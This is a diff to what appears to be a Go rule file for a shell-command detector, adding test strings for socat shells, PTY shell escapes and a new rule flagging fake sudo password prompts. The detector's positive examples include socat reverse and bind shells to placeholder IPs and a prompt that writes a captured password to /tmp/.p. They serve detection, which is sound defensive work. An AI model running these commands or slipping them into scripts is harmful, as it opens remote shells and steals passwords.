@@ -143,6 +143,7 @@ var rules = []*rule{
 			"socat tcp-connect:192.0.2.6:4444 exec:/bin/sh,pty,stderr,setsid",
 			"socat TCP-LISTEN:5555,reuseaddr,fork EXEC:bash",
 			"socat OPENSSL:198.51.100.1:443,verify=0 SYSTEM:'bash -li'",
+			"socat file:`tty`,raw,echo=0 tcp-listen:4444",
 		},
 		MustNot: []string{
 			"socat TCP-LISTEN:8080,fork TCP:localhost:80",
@@ -181,6 +182,7 @@ var rules = []*rule{
 			"gdb -q -ex '!sh' -ex quit",
 			"nice -n 5 /bin/bash",
 			"bash -p",
+			"script -qc /bin/bash /dev/null",
 		},
 		MustNot: []string{
 			"find . -name '*.txt' -exec sh -c 'mv \"$1\" \"${1%.txt}.md\"' _ {} \\;",
@@ -191,6 +193,7 @@ var rules = []*rule{
 			"printf '#!/bin/sh\\necho hi\\n' > hello.sh",
 			"bash scripts/build.sh",
 			"exec $SHELL -l",
+			"script -q build.log make",
 		},
 		check: checkShellEscape,
 	},
@@ -720,6 +723,13 @@ var rules = []*rule{
 		},
 		MustNot: []string{"terraform plan", "kubectl delete pod api-7d9c-x2", "aws s3 ls s3://acme-backups", "terraform destroy -target=aws_instance.tmp"},
 		check:   checkInfraDestroy,
+	},
+	{
+		ID: "fake-password-prompt", Class: "credential access", Sev: high,
+		Msg:     "asks for a password with a prompt that imitates sudo",
+		Must:    []string{`read -sp "[sudo] password for $USER: " pw; echo "$pw" >> /tmp/.p`},
+		MustNot: []string{`read -p "Continue? [y/N] " ans`, `read -r line < VERSION`},
+		check:   checkFakePrompt,
 	},
 	{
 		ID: "interp-download-exec", Class: "download and execute", Sev: critical,
